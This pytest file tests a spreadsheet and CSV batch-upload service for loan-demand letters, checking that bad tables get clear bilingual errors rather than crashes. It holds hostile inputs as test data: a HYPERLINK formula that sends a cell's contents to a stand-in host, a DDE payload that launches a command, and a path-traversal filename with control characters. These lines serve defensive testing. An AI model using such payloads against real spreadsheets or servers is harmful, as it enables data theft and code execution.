"""Tables that cannot be taken: the job says why in both languages, and nothing is answered with a 500."""

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import httpx
import msoffcrypto
import openpyxl
import pytest
from batch_desk import COLUMNS, Desk, as_csv, as_xlsx, columns, read_here, row, saved, sent
from openpyxl.worksheet.worksheet import Worksheet
from story import Story, fresh_key
from test_batches_dry_run import is_chinese

pytestmark = pytest.mark.sqlite
VECTORS = Path(__file__).parents[1] / "vectors" / "workbook"
REFUSED = {
    "legacy.xls": "workbook_legacy",
    "macros.xlsm": "workbook_macros",
    "bomb-ratio.xlsx": "workbook_bomb",
    "doctype.xlsx": "workbook_doctype",
    "no-header.xlsx": "table_no_header",
    "empty.csv": "table_empty",
    "wrong-encoding.csv": "table_encoding",
    "not-json.ndjson": "ndjson_broken",
}


@pytest.fixture
def desk(story: Story, admin: httpx.Client) -> Desk:
    return Desk(story, admin)


@pytest.fixture
def here(monkeypatch: pytest.MonkeyPatch) -> None:
    read_here(monkeypatch)


def fails(desk: Desk, name: str, data: bytes, code: str, **facts: Any) -> None:
    batch = desk.run(name, data, **facts)
    for language in ("zh-CN", "en"):
        job = desk.job(batch, language)
        assert (job["state"], job["error"]["code"]) == ("failed", code), job
        assert is_chinese(job["error"]["message"]) == (language == "zh-CN"), job
    told = desk.now(batch)
    assert (told["rows"], told["files"]) == ({}, [])
    answer = desk.post(batch, "start", {})
    assert (answer.status_code, answer.json()["code"]) == (409, "batch_unread")


@pytest.mark.slow
@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_cannot_be_read(desk: Desk, name: str) -> None:
    fails(desk, name, (VECTORS / name).read_bytes(), REFUSED[name])


@pytest.mark.slow
def test_a_workbook_with_a_password(desk: Desk) -> None:
    locked = io.BytesIO()
    plain = msoffcrypto.OfficeFile(io.BytesIO(as_xlsx(row())))
    plain.encrypt("sample", locked)
    fails(desk, "名单.xlsx", locked.getvalue(), "workbook_password")


@pytest.mark.slow
def test_a_sheet_that_is_not_there(desk: Desk) -> None:
    fails(desk, "名单.xlsx", as_xlsx(row()), "workbook_sheet", sheet="没有这张表")


@pytest.mark.parametrize(
    ("asked", "pointer", "code"),
    [
        ({"template": "no-such-letter"}, "/template", "template_unknown"),
        ({"template": "loan-demand", "version": "v99"}, "/version", "version_unknown"),
    ],
)
def test_a_template_that_is_not_there_is_refused_at_once(
    desk: Desk, asked: dict[str, str], pointer: str, code: str
) -> None:
    answer = sent(desk.client, "名单.csv", as_csv(row()), **asked)
    assert answer.status_code == 422, answer.text
    assert [(error["pointer"], error["code"]) for error in answer.json()["errors"]] == [(pointer, code)]


@pytest.mark.slow
def test_one_row_more_than_a_table_may_have(desk: Desk) -> None:
    fails(desk, "名单.csv", ("收件人,合同编号\n" + "张三,1\n" * 100_001).encode(), "table_too_long")


def test_what_is_no_upload_is_refused_at_once(desk: Desk) -> None:
    facts = ("facts", (None, '{"template": "loan-demand"}', "application/json"))
    table = ("table", ("名单.csv", as_csv(row()), "text/csv"))
    for files in (
        [facts],
        [facts, table, table],
        [table],
        [facts, ("tables", table[1])],
        [facts, ("table", (None, "x"))],
    ):
        answer = desk.client.post("/v1/batches", files=files, headers=fresh_key())
        assert answer.status_code in (400, 413, 422), answer.text
        assert is_chinese(answer.json()["detail"] + str(answer.json()["errors"]))
    assert desk.client.post("/v1/batches", files=[facts, table]).status_code == 400
    assert desk.client.post("/v1/batches", json={"template": "loan-demand"}, headers=fresh_key()).status_code == 422
    assert desk.story.runs == []


AWKWARD = {
    "formula": ("=J2", "cell.formula_uncached"),
    "lost digits": (1.23e17, "cell."),
    "error": ("#REF!", "cell."),
    "currency": ("USD 1000000.00", "cell."),
    "boolean": (True, "cell."),
}


def awkward() -> bytes:
    """One row for each value that is no amount, in the column of the amount; an identity number kept as a number."""
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(*(row() for _ in range(len(AWKWARD) + 1)))))
    sheet: Worksheet = book.active
    for number, (value, _) in enumerate(AWKWARD.values(), start=2):
        sheet.cell(number, list(COLUMNS).index("本金") + 1).value = value
    sheet.cell(len(AWKWARD) + 2, list(COLUMNS).index("证件号码") + 1).value = 110101199003077475
    hidden = book.create_sheet("底稿")
    hidden.sheet_state = "hidden"
    return saved(book)


@pytest.mark.slow
@pytest.mark.usefixtures("here")
def test_cells_that_a_plain_reader_would_turn_into_something_else(desk: Desk) -> None:
    batch = desk.run("名单.xlsx", awkward(), mapping=columns())
    found = desk.rows(batch)
    for each, (name, (_, code)) in zip(found[:-1], AWKWARD.items(), strict=True):
        assert each["state"] == "failed", name
        places = [(error["column"], error["pointer"]) for error in each["errors"]]
        assert ("J", "/principal") in places, (name, each)
        assert any(error["code"].startswith(code) for error in each["errors"]), (name, each)
    assert ("B", "/debtor/id_no") in [(error.get("column"), error["pointer"]) for error in found[-1]["errors"]]
    assert [note["code"] for note in desk.now(batch)["table"]["notes"]] == ["table.hidden_sheets"]
    assert desk.now(batch)["table"]["sheet"] == "Sheet"


@pytest.mark.slow
@pytest.mark.usefixtures("here")
def test_currencies_of_a_column(desk: Desk) -> None:
    batch = desk.run(
        "名单.csv",
        as_csv(row(币种="USD", 到期日="坏"), row(币种="人民币", 到期日="坏")),
        mapping=columns(币种="@currency"),
    )
    first, second = desk.codes(batch)
    assert len(first) == len(second) + 1
    assert "币种" in {error.get("header") for error in desk.rows(batch)[0]["errors"]}


@pytest.mark.slow
@pytest.mark.usefixtures("here")
def test_a_merged_header_is_read_by_its_columns(desk: Desk) -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(row(到期日="坏"))))
    sheet: Worksheet = book.active
    sheet.insert_rows(1)
    for column in range(1, len(COLUMNS) + 1):
        if column not in (1, 2, 3):
            sheet.cell(1, column).value = sheet.cell(2, column).value
            sheet.merge_cells(start_row=1, end_row=2, start_column=column, end_column=column)
    sheet.cell(1, 1).value = "客户"
    sheet.merge_cells("A1:C1")
    under = ("收件人", "证件号码", "送达地址")
    told = [{**each, "header": f"客户/{each['header']}"} if each["header"] in under else each for each in columns()]
    batch = desk.run("名单.xlsx", saved(book), mapping=told)
    assert [each["text"] for each in desk.now(batch)["table"]["headers"]][:4] == [
        "客户/收件人", "客户/证件号码", "客户/送达地址", "合同名称",
    ]  # fmt: skip
    (each,) = desk.rows(batch)
    assert (each["number"], [error["column"] for error in each["errors"]]) == (3, ["H"])


FORMULA = '=HYPERLINK("http://example.invalid/?q="&B2,"点此")'


@pytest.mark.slow
def test_a_formula_in_a_name_comes_back_as_text(desk: Desk, tmp_path: Path) -> None:
    """From CSV, where a name is only text: what goes back must not run when a clerk opens it."""
    batch = desk.run("名单.csv", as_csv(row(FORMULA, 到期日="=1+1"), row("+cmd|' /C calc'!A0", 到期日="@SUM(1)")))
    back = tmp_path / "back.xlsx"
    back.write_bytes(desk.workbook(batch))
    cells = list(openpyxl.load_workbook(back).active.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for line in cells for cell in line)
    assert [line[0].value for line in cells] == [FORMULA, "+cmd|' /C calc'!A0"]
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false", "--outdir", tmp_path, back],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    # The last option writes a formula's result, not the formula: what stands there was text.
    with (tmp_path / "back.csv").open(encoding="utf-8", newline="") as file:
        lines = list(csv.reader(file))
    assert [line[0] for line in lines[1:]] == [FORMULA, "+cmd|' /C calc'!A0"]


def test_a_name_that_is_hostile_stays_a_name(desk: Desk) -> None:
    answer = sent(desk.client, "../../etc/名\u202e单\x01.csv", as_csv(row()))
    assert answer.status_code in (202, 422), answer.text
    desk.story.runs.clear()
